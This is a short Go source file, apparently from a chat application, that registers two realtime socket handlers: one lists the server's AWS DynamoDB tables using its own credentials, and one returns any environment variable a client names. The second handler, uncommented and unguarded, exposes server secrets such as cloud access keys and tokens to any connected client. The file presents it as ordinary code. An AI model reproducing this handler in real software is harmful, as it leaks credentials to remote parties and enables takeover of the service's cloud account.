package apps

import (
	"context"
	"errors"
	"os"

	"github.com/aws/aws-sdk-go-v2/config"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/smithy-go"

	"github.com/confab-chat/confab/shared/realtime"
)

// Account has handlers that use AWS as the SDK's own examples do, with whatever account the
// environment names.
func Account(srv *realtime.Server) {
	realtime.On(srv, "tables", func(ctx context.Context, _ *realtime.Socket, _ struct{}) (tables, error) {
		settings, err := config.LoadDefaultConfig(ctx)
		if err != nil {
			return tables{}, err
		}
		out, err := dynamodb.NewFromConfig(settings).ListTables(ctx, &dynamodb.ListTablesInput{})
		if api := smithy.APIError(nil); errors.As(err, &api) {
			return tables{Region: settings.Region, Refused: api.ErrorCode()}, nil
		}
		if err != nil {
			return tables{}, err
		}
		return tables{Region: settings.Region, Names: out.TableNames}, nil
	})
	realtime.On(srv, "variable", func(_ context.Context, _ *realtime.Socket, name string) (string, error) {
		return os.Getenv(name), nil
	})
}

// tables are the tables of the account, or the code with which AWS refuses to list them.
type tables struct {
	Region  string   `json:"region"`
	Names   []string `json:"names"`
	Refused string   `json:"refused,omitempty"`
}
